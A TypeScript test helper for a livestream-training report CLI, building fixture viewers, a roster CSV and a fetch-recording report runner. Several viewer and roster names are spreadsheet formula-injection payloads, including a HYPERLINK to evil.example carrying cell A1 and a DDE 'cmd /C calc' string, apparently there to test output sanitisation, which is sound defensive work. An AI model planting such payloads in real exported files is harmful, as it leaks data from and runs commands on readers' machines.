// Shared by the report*.test.ts files: a corp with training lives, a roster, and a report run
// against a real livestat server whose clock the report's sleep moves.
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Scenario } from '../../src/scenario/scenario-schema.js';
import type { TestServer } from './test-server.js';
import { CORP, SECRETS } from './scenarios.js';
import { CapturedStream } from './pull-run.js';
import { runReport, type ReportOptions } from '../../src/cli/report.js';

export const HOSTILE_VIEWER = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
export const HOSTILE_INVITER = '@SUM(1+1)*cmd|\' /C calc\'!A0';
export const LIVE_A = 'lvTrainingA0000000000000000000000';
export const LIVE_B = 'lvTrainingB0000000000000000000000';
export const LIVE_OLD = 'lvTrainingOld00000000000000000000';
export const LIVE_OTHER_ANCHOR = 'lvOtherAnchor0000000000000000000';
/** 2025-11-25 08:00 UTC (16:00 in China); B starts a day later; the old one in October. */
const START_A = 1764057600;

export function trainingScenario(): Scenario {
  const base = { anchor_userid: 'zhangsan', theme: '安全培训', type: 3, living_duration: 3600, creator_agentid: 1000002 };
  const member = (userid: string, watch_time: number, extra: { invitor_userid?: string } = {}) => ({ userid, watch_time, is_comment: 0 as const, is_mic: 0 as const, ...extra });
  return {
    corps: [
      {
        corpid: CORP,
        apps: [{ agentid: 1000002, kind: 'self_built', secret: SECRETS.selfBuilt, living_api: true, trusted_ips: [] }],
        livings: [
          {
            ...base,
            livingid: LIVE_A,
            living_start: START_A,
            viewers: [
              { ...member('u1', 2400), is_comment: 1 },
              member('u2', 600, { invitor_userid: 'u1' }),
              { external_userid: 'wmHostile0000000000000000000001', type: 1, name: HOSTILE_VIEWER, watch_time: 100, is_comment: 0, is_mic: 1, invitor_external_userid: 'wmInviter000000000000000000001' },
              { external_userid: 'wmInviter000000000000000000001', type: 1, name: HOSTILE_INVITER, watch_time: 50, is_comment: 1, is_mic: 0 },
              { external_userid: 'wmPlain00000000000000000000001', type: 2, name: '万强', watch_time: 10, is_comment: 0, is_mic: 0, invitor_external_userid: 'wmInviter000000000000000000001' },
            ],
          },
          { ...base, livingid: LIVE_B, theme: '安全培训(二)', living_start: START_A + 86_400, viewers: [member('u1', 1800), member('u3', 60)] },
          { ...base, livingid: LIVE_OLD, living_start: START_A - 36 * 86_400, viewers: [member('u1', 3000)] },
          { ...base, livingid: LIVE_OTHER_ANCHOR, anchor_userid: 'lisi', living_start: START_A, viewers: [member('u4', 3000)] },
        ],
      },
    ],
  };
}

/** u1 and u2 in Sales, u3 and u4 in HR; u4's name is hostile too. */
export async function writeRoster(dir: string): Promise<string> {
  const path = join(dir, 'roster.csv');
  await writeFile(path, '\uFEFFuserid,name,department\r\nu1,张三,Sales\r\nu2,李四,Sales\r\nu3,王五,HR\r\nu4,"-1+1",HR\r\n');
  return path;
}

export interface ReportRun {
  code: number;
  stderr: string;
  /** Every API path called, with its livingid when it has one. */
  calls: string[];
  sleptMs: number;
}

/** Runs a report against the server; its sleep moves the server's clock instead of waiting. */
export async function reportFrom(server: TestServer, dir: string, opts: ReportOptions, hooks: { sleep?: (ms: number) => Promise<void>; tty?: boolean } = {}): Promise<ReportRun> {
  const stderr = new CapturedStream(hooks.tty ?? false);
  const calls: string[] = [];
  let sleptMs = 0;
  const code = await runReport(
    { corpid: CORP, secret: SECRETS.selfBuilt, baseUrl: server.url, tokenDir: join(dir, 'tokens'), ...opts },
    {
      stderr,
      env: {},
      time: {
        now: () => server.clock.now(),
        sleep:
          hooks.sleep ??
          (async (ms) => {
            sleptMs += ms;
            server.clock.advance(ms);
          }),
      },
      fetch: async (input, init) => {
        const url = new URL(input instanceof Request ? input.url : String(input));
        const body = typeof init?.body === 'string' ? (JSON.parse(init.body) as { livingid?: string }) : {};
        const livingid = url.searchParams.get('livingid') ?? body.livingid;
        calls.push(`${url.pathname.split('/').pop() ?? ''}${livingid ? ` ${livingid}` : ''}`);
        return fetch(input, init);
      },
    },
  );
  return { code, stderr: stderr.text, calls, sleptMs };
}
